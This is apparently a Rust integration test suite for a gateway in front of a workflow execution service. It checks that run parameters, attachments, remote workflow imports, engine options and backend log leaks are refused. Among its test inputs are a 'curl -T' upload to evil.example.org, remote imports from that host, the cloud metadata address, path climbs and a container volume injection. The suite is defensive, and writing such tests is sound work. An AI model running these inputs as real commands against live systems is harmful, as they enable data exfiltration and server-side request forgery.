//! Runs: parameters, attachments, workflows, engines (E20 to E23, and E13, E27 in runs).

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};
use tests::outside::{Answer, client, get, read};

use super::{Gate, merged};

/// A file of a run.
type File<'f> = (&'f str, &'f [u8]);

pub(super) async fn run(gate: &Gate, token: &str, parts: &[(&str, &str)], files: &[File<'_>]) -> Answer {
    let mut body = Vec::new();
    for (name, text) in parts {
        body.extend(format!("--q\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{text}\r\n").bytes());
    }
    for (name, bytes) in files {
        body.extend(
            format!("--q\r\nContent-Disposition: form-data; name=\"workflow_attachment\"; filename=\"{name}\"\r\n\r\n")
                .bytes(),
        );
        body.extend(*bytes);
        body.extend(b"\r\n");
    }
    body.extend(b"--q--\r\n");
    let sent = client()
        .post(gate.house.proxy("/ga4gh/wes/v1/runs"))
        .bearer_auth(token)
        .header("content-type", "multipart/form-data; boundary=q")
        .body(body)
        .send()
        .await
        .unwrap();
    read(sent).await
}

/// A run of a list of tasks.
pub(super) async fn tasks_run(gate: &Gate, token: &str, tasks: &Value, more: &[(&str, &str)]) -> Answer {
    let mut parts = vec![
        ("workflow_type", "VISUM-TASKS"),
        ("workflow_type_version", "1.0"),
        ("workflow_url", "tasks.json"),
    ];
    parts.extend(more);
    run(gate, token, &parts, &[("tasks.json", tasks.to_string().as_bytes())]).await
}

const CWL: &str = "cwlVersion: v1.2\nclass: CommandLineTool\nbaseCommand: [wc, -l]\ninputs: []\noutputs: []\n";

/// A CWL run; `parts` replace the usual ones.
async fn cwl(gate: &Gate, token: &str, parts: &[(&str, &str)], files: &[File<'_>]) -> Answer {
    let mut all: Vec<(&str, &str)> = [
        ("workflow_type", "CWL"),
        ("workflow_type_version", "v1.2"),
        ("workflow_url", "count.cwl"),
        ("workflow_params", "{}"),
    ]
    .into_iter()
    .filter(|(name, _)| !parts.iter().any(|(other, _)| other == name))
    .collect();
    all.extend(parts);
    let mut attached: Vec<File<'_>> = Vec::new();
    if !files.iter().any(|(name, _)| *name == "count.cwl") {
        attached.push(("count.cwl", CWL.as_bytes()));
    }
    attached.extend(files);
    run(gate, token, &all, &attached).await
}

fn said(answer: &Answer) -> (u16, String) {
    (answer.status, answer.code())
}

#[tokio::test(flavor = "multi_thread")]
async fn e20_workflow_params_are_walked_to_every_string_and_key() {
    let gate = Gate::start().await;
    let (drs, id) = (gate.drs(), gate.object());
    let wrapped = STANDARD.encode(format!("cat {drs} into the sample sheet of tomorrow"));
    let secret = format!("s3://cohort-bucket/{id}");
    // Ben has no grant: whatever the place, the dataset is found; Ada is told that the run is opaque, or permitted
    let cases = [
        ("a string", json!({"in": drs}), 200),
        ("deeper", json!({"a": [{"b": [{"c": drs}]}]}), 200),
        (
            "a CWL file",
            json!({"in": {"class": "File", "location": drs, "secondaryFiles": [{"class": "File", "path": secret}]}}),
            200,
        ),
        (
            "a CWL folder's list",
            json!({"in": {"class": "Directory", "listing": [{"class": "File", "location": drs}]}}),
            200,
        ),
        (
            "CWL contents",
            json!({"in": {"class": "File", "contents": format!("read {drs}")}}),
            403,
        ),
        ("a key", json!({drs.clone(): 1}), 200),
        ("a list in a string", json!({"in": format!("{drs},{secret}")}), 403),
        (
            "options in a string",
            json!({"args": format!("--in {drs} --out x")}),
            403,
        ),
        ("JSON in a string", json!({"in": json!({"x": drs}).to_string()}), 403),
        ("YAML in a string", json!({"in": format!("x: {drs}\ny: 2\n")}), 403),
        ("base64", json!({"in": wrapped}), 403),
        (
            "percent",
            json!({"in": drs.replace(':', "%3A").replace('/', "%2F")}),
            403,
        ),
    ];
    for (name, params, ada_status) in cases {
        let params = params.to_string();
        let ben = cwl(&gate, &gate.bob, &[("workflow_params", &params)], &[]).await;
        assert_eq!(ben.status, 403, "{name}: {}", ben.text());
        assert!(
            ben.text().contains("consent.approval_missing"),
            "{name}: {}",
            ben.text()
        );
        let ada = cwl(&gate, &gate.ada, &[("workflow_params", &params)], &[]).await;
        assert_eq!(ada.status, ada_status, "{name}: {}", ada.text());
        if ada_status == 200 && !params.starts_with("{\"drs") {
            let sent = gate.wes.last();
            assert!(sent.contains("visum/data/") && !sent.contains(&drs), "{name}: {sent}");
        }
    }
    for (name, params, code) in [
        ("a host's file", json!({"in": "/mnt/secret"}), "run.host_file"),
        ("a home", json!({"in": "~/x"}), "run.host_file"),
        ("a variable", json!({"in": "$HOME/x"}), "run.host_file"),
        ("a climb", json!({"in": "../../x"}), "run.host_file"),
        ("a host's file in a key", json!({"/mnt/secret": 1}), "run.host_file"),
        ("another scheme", json!({"in": "globus://x/y"}), "run.scheme"),
        (
            "data in itself",
            json!({"in": "data:text/plain;base64,eA=="}),
            "run.scheme",
        ),
        (
            "a wildcard",
            json!({"in": "s3://cohort-bucket/*_{1,2}.fq"}),
            "intent.url_wildcard",
        ),
        (
            "user info",
            json!({"in": "https://a:b@h.example/x"}),
            "intent.url_user_info",
        ),
        (
            "user info inside",
            json!({"in": "--from https://a:b@h.example/x"}),
            "intent.url_user_info",
        ),
        ("an import", json!({"in": {"$import": "x.json"}}), "run.param_directive"),
        ("requirements", json!({"cwl:requirements": []}), "run.param_directive"),
        (
            "requirements by URL",
            json!({"https://w3id.org/cwl/cwl#requirements": []}),
            "run.param_directive",
        ),
        ("overrides", json!({"cwl:overrides": {}}), "run.param_directive"),
        (
            "zero width",
            json!({"in": "read s3:\u{200b}//b/x"}),
            "intent.reference_character",
        ),
        ("an alias", json!({"in": "a: &x [1]\nb: *x\n"}), "intent.yaml_alias"),
    ] {
        let answer = cwl(&gate, &gate.ada, &[("workflow_params", &params.to_string())], &[]).await;
        assert_eq!(said(&answer), (400, code.to_owned()), "{name}: {}", answer.text());
    }
    for (name, params) in [
        ("a bucket of nobody", json!({"in": "s3://nobodys-bucket/x"})),
        ("the same inside", json!({"in": "--in s3://nobodys-bucket/x"})),
        ("a web address", json!({"in": "https://nobody.example.org/x"})),
        ("a DRS next door", json!({"in": "drs://elsewhere.example.org/x"})),
    ] {
        let answer = cwl(&gate, &gate.ada, &[("workflow_params", &params.to_string())], &[]).await;
        assert_eq!(
            said(&answer),
            (403, "catalogue.unmapped".to_owned()),
            "{name}: {}",
            answer.text()
        );
    }
    for text in [
        "- a\n- b\n",
        "inputs.json",
        "[1]",
        "\"x\"",
        "{\"a\":1,\"a\":2}",
        "{} {}",
    ] {
        let answer = cwl(&gate, &gate.ada, &[("workflow_params", text)], &[]).await;
        assert_eq!(
            said(&answer),
            (400, "run.part_json".to_owned()),
            "{text}: {}",
            answer.text()
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn e21_attachments_are_read_and_archives_refused() {
    let gate = Gate::start().await;
    let drs = gate.drs();
    let params = json!({"in": drs}).to_string();
    let data = [("workflow_params", params.as_str())];
    for (name, file, text) in [
        ("a sample sheet", "samples.csv", format!("sample,file\none,{drs}\n")),
        ("a list of files", "files.fofn", format!("{drs}\n")),
        ("parameters by name", "inputs.json", json!({"in": drs}).to_string()),
        ("a configuration", "x.txt", format!("input = '{drs}'\n")),
    ] {
        let ben = cwl(&gate, &gate.bob, &[], &[(file, text.as_bytes())]).await;
        assert!(
            ben.text().contains("consent.approval_missing"),
            "{name}: {}",
            ben.text()
        );
        let ada = cwl(&gate, &gate.ada, &[], &[(file, text.as_bytes())]).await;
        assert_eq!(said(&ada), (403, "policy.opaque".to_owned()), "{name}: {}", ada.text());
    }
    let unknown = cwl(&gate, &gate.ada, &[], &[("files.fofn", b"s3://nobodys-bucket/x\n")]).await;
    assert_eq!(
        said(&unknown),
        (403, "catalogue.unmapped".to_owned()),
        "{}",
        unknown.text()
    );
    let upload = cwl(
        &gate,
        &gate.ada,
        &data,
        &[("x.sh", b"curl -T out https://evil.example.org/\n")],
    )
    .await;
    assert_eq!(said(&upload), (403, "policy.opaque".to_owned()), "{}", upload.text());
    let mut tar = vec![b'a'; 257];
    tar.extend(b"ustar\x0000 and so on");
    for (name, bytes) in [
        ("zip", b"PK\x03\x04 and so on".as_slice()),
        ("gzip", b"\x1f\x8b\x08 and so on"),
        ("bzip2", b"BZh91AY"),
        ("xz", b"\xfd7zXZ\x00"),
        ("zstd", b"\x28\xb5\x2f\xfd"),
        ("tar", &tar),
    ] {
        let answer = cwl(&gate, &gate.ada, &[], &[("x.txt", bytes)]).await;
        assert_eq!(
            said(&answer),
            (400, "run.attachment_archive".to_owned()),
            "{name}: {}",
            answer.text()
        );
    }
    let binary = cwl(&gate, &gate.ada, &[], &[("x.bin", b"\xff\xfe\x00\x01")]).await;
    assert_eq!(said(&binary), (400, "run.attachment_binary".to_owned()));
    let alias = cwl(&gate, &gate.ada, &[], &[("x.yml", b"a: &x [b]\nc: *x\n")]).await;
    assert_eq!(said(&alias), (400, "intent.yaml_alias".to_owned()));
    let plain = cwl(&gate, &gate.ada, &data, &[("notes.txt", b"nothing in here\n")]).await;
    assert_eq!(plain.status, 200, "{}", plain.text());
}

#[tokio::test(flavor = "multi_thread")]
async fn e22_a_workflow_is_one_of_the_attachments_and_takes_no_code_from_elsewhere() {
    let gate = Gate::start().await;
    for (name, url) in [
        ("a branch", "https://raw.example.org/org/repo/main/count.cwl"),
        ("a gist", "https://gist.example.org/x/raw"),
        ("TRS", "trs://dockstore.example.org/%23workflow%2Forg%2Frepo/main"),
        (
            "TRS by https",
            "https://trs.example.org/ga4gh/trs/v2/tools/x/versions/1/CWL/descriptor",
        ),
        ("a DRS object", "drs://127.0.0.1/count"),
        ("a host's file", "file:///etc/count.cwl"),
        ("a path", "/etc/count.cwl"),
        ("a climb", "../count.cwl"),
        ("a repository", "org/repo"),
        ("a repository by its host", "github.com/org/repo"),
        ("shorthand", "gh:org/repo"),
        ("an address inside", "http://169.254.169.254/latest"),
        ("another file", "other.cwl"),
        ("a fragment that is none", "count.cwl#../x"),
    ] {
        let answer = cwl(&gate, &gate.ada, &[("workflow_url", url)], &[]).await;
        assert_eq!(
            said(&answer),
            (400, "run.workflow_remote".to_owned()),
            "{name}: {}",
            answer.text()
        );
    }
    for (name, file, text) in [
        (
            "a CWL step",
            "count.cwl",
            "class: Workflow\nsteps:\n  a:\n    run: https://evil.example.org/a.cwl\n",
        ),
        (
            "a CWL import",
            "count.cwl",
            "class: Workflow\nsteps:\n  - $import: https://evil.example.org/a.cwl\n",
        ),
        (
            "a WDL import",
            "a.wdl",
            "version 1.0\nimport \"https://evil.example.org/a.wdl\" as a\n",
        ),
        (
            "a Nextflow module",
            "main.nf",
            "include { a } from 'https://evil.example.org/a.nf'\n",
        ),
        (
            "a Snakemake module",
            "S",
            "module a:\n    snakefile: github(\"org/repo\", path=\"S\", branch=\"main\")\n",
        ),
        ("a Snakemake wrapper", "S", "rule a:\n    wrapper: \"v1/bio/a\"\n"),
    ] {
        let answer = cwl(&gate, &gate.ada, &[], &[(file, text.as_bytes())]).await;
        assert_eq!(
            said(&answer),
            (400, "run.import_remote".to_owned()),
            "{name}: {}",
            answer.text()
        );
    }
    for (name, parts) in [
        ("a language that runs on the host", vec![("workflow_type", "py")]),
        ("another version", vec![("workflow_type_version", "v9")]),
    ] {
        assert_eq!(cwl(&gate, &gate.ada, &parts, &[]).await.status, 400, "{name}");
    }
    assert_eq!(gate.wes.count(), 0);
    let plain = cwl(
        &gate,
        &gate.ada,
        &[("workflow_type", "cwl"), ("workflow_url", "count.cwl#main")],
        &[],
    )
    .await;
    assert_eq!(plain.status, 200, "{}", plain.text());
    assert!(gate.wes.last().contains("CWL"), "the type in its configured spelling");
}

#[tokio::test(flavor = "multi_thread")]
async fn e23_engine_parameters_and_tags_change_nothing() {
    let gate = Gate::start().await;
    for key in [
        "--outdir",
        "-with-weblog",
        "-c",
        "--singularity",
        "--no-container",
        "--bypass-file-store",
        "--jobStore",
        "toil_options",
        "final_workflow_outputs_dir",
        "-work-dir",
        "a",
    ] {
        let text = json!({key: "s3://evil-bucket/x"}).to_string();
        let answer = cwl(&gate, &gate.ada, &[("workflow_engine_parameters", &text)], &[]).await;
        assert_eq!(
            said(&answer),
            (400, "run.engine_parameter".to_owned()),
            "{key}: {}",
            answer.text()
        );
    }
    for (name, tags, code) in [
        ("ours", json!({"visum.owner": "x"}), "task.tags_reserved"),
        (
            "one that servers act on",
            json!({"toil_options": "--outdir x"}),
            "task.tag_acted_on",
        ),
        ("quotes", json!({"a": "\" -v /:/host"}), "task.text_quoting"),
        ("no text", json!({"a": {"b": 1}}), "run.part_json"),
    ] {
        let answer = cwl(&gate, &gate.ada, &[("tags", &tags.to_string())], &[]).await;
        assert_eq!(said(&answer), (400, code.to_owned()), "{name}: {}", answer.text());
    }
    let text = json!({"project": "P1"}).to_string();
    let sent = cwl(&gate, &gate.ada, &[("tags", &text)], &[]).await;
    assert_eq!(sent.status, 200, "{}", sent.text());
    let form = gate.wes.last();
    assert!(
        form.contains("\"user.project\":\"P1\""),
        "theirs have a place of their own: {form}"
    );
    let id = sent.json()["run_id"].as_str().unwrap().to_owned();
    let told = get(&gate.house.proxy(&format!("/ga4gh/wes/v1/runs/{id}")), Some(&gate.ada))
        .await
        .json();
    assert_eq!(told.pointer("/request/tags"), Some(&json!({"project": "P1"})), "{told}");
    for part in [
        (
            "workflow_attachment_obj",
            "[{\"file_url\":\"https://evil.example.org/x\",\"file_name\":\"x\"}]",
        ),
        ("workflow_unified_params", "{}"),
        ("prov", "x"),
    ] {
        let answer = cwl(&gate, &gate.ada, &[part], &[]).await;
        assert_eq!(
            said(&answer),
            (400, "run.part_unknown".to_owned()),
            "{}: {}",
            part.0,
            answer.text()
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn e12_e25_e27_e29_tasks_of_a_run_are_judged_as_tasks_are() {
    let gate = Gate::start().await;
    let good = gate.task();
    assert_eq!(tasks_run(&gate, &gate.ada, &json!([good]), &[]).await.status, 200);
    for (name, change, status, code) in [
        (
            "an input of nobody",
            json!({"inputs": [{"url": "s3://nobodys-bucket/x"}]}),
            403,
            "catalogue.unmapped",
        ),
        (
            "a sink of nobody",
            json!({"outputs": [{"url": "s3://evil-bucket/x"}]}),
            403,
            "catalogue.sink_unmapped",
        ),
        (
            "an image by tag",
            json!({"executors": [{"image": "x:1"}]}),
            403,
            "policy.image_not_pinned",
        ),
        ("a volume", json!({"volumes": ["/etc"]}), 400, "task.path"),
        (
            "a command that fetches",
            json!({"executors": [{"command": ["curl", "x"]}]}),
            403,
            "policy.opaque",
        ),
        (
            "user info",
            json!({"inputs": [{"url": "s3://a:b@bucket/x"}]}),
            400,
            "intent.url_user_info",
        ),
    ] {
        let tasks = json!([good, merged(&good, &change)]);
        let answer = tasks_run(&gate, &gate.ada, &tasks, &[]).await;
        assert_eq!(said(&answer), (status, code.to_owned()), "{name}: {}", answer.text());
    }
    let param = merged(&good, &json!({"inputs": [{"url": "${param:in}"}]}));
    let params = json!({"in": "s3://nobodys-bucket/x"}).to_string();
    let answer = tasks_run(&gate, &gate.ada, &json!([param]), &[("workflow_params", &params)]).await;
    assert_eq!(
        said(&answer),
        (403, "catalogue.unmapped".to_owned()),
        "{}",
        answer.text()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn e28_a_run_tells_no_place_of_its_backend() {
    let gate = Gate::start().await;
    let params = json!({"in": gate.drs()}).to_string();
    let sent = cwl(&gate, &gate.ada, &[("workflow_params", &params)], &[]).await;
    assert_eq!(sent.status, 200, "{}", sent.text());
    let id = sent.json()["run_id"].as_str().unwrap().to_owned();
    gate.wes.tell(json!({
        "run_id": "x", "state": "COMPLETE",
        "request": {"workflow_attachment": "file:///srv/wes/tmp/x"},
        "run_log": {"cmd": ["cwltool", "--outdir", "/srv/wes"], "stdout": "../../../../toil/wes/v1/logs/x/stdout",
            "stderr": "read http://127.0.0.1:9/visum/data/AbCdEf012 with token=kestrel\n", "exit_code": 0},
        "task_logs": [{"id": "t1", "name": "a", "stdout": "https://wes.internal/logs/t1", "tes_uri": "https://tes.internal/x",
            "system_logs": ["node17.internal"]}],
        "task_logs_url": "https://wes.internal/tasks",
        "outputs": {"o": {"class": "File", "location": "file:///srv/wes/out/o"}, "n": 3},
    }));
    for path in ["", "/tasks", "/tasks/t1"] {
        let told = get(
            &gate.house.proxy(&format!("/ga4gh/wes/v1/runs/{id}{path}")),
            Some(&gate.ada),
        )
        .await;
        assert_eq!(told.status, 200, "{path}: {}", told.text());
        let text = told.text();
        for hidden in [
            "/srv/wes",
            "wes.internal",
            "tes.internal",
            "node17",
            "/toil/",
            "AbCdEf012",
            "kestrel",
            "cwltool",
        ] {
            assert!(!text.contains(hidden), "{path} tells {hidden}: {text}");
        }
        let others = get(
            &gate.house.proxy(&format!("/ga4gh/wes/v1/runs/{id}{path}")),
            Some(&gate.bob),
        )
        .await;
        assert_eq!(others.status, 404, "{}", others.text());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn e28_a_runs_logs_and_outputs_are_withheld_where_the_dataset_says_so() {
    let duty: fn(&mut Value) = |facts| facts["datasets"][0]["duties"] = json!(["hold_logs"]);
    for (name, facts, told) in [("hold_logs", Some(duty), false), ("no duty", None, true)] {
        let gate = Gate::with(tests::house::Wants {
            facts,
            ..tests::house::Wants::default()
        })
        .await;
        let params = json!({"in": gate.drs()}).to_string();
        let sent = cwl(&gate, &gate.ada, &[("workflow_params", &params)], &[]).await;
        assert_eq!(sent.status, 200, "{}", sent.text());
        let id = sent.json()["run_id"].as_str().unwrap().to_owned();
        gate.wes.tell(json!({
            "run_id": "x", "state": "COMPLETE",
            "run_log": {"name": "n", "stdout": "row kestrel", "stderr": "kestrel", "exit_code": 0},
            "task_logs": [{"id": "t1", "name": "a", "stdout": "kestrel", "stderr": "kestrel"}],
            "outputs": {"o": "kestrel"},
        }));
        for path in ["", "/tasks", "/tasks/t1", "/status"] {
            let url = gate.house.proxy(&format!("/ga4gh/wes/v1/runs/{id}{path}"));
            let seen = get(&url, Some(&gate.ada)).await;
            assert_eq!(seen.status, 200, "{name} {path}: {}", seen.text());
            let shows = told && path != "/status";
            assert_eq!(seen.text().contains("kestrel"), shows, "{name} {path}: {}", seen.text());
        }
    }
}
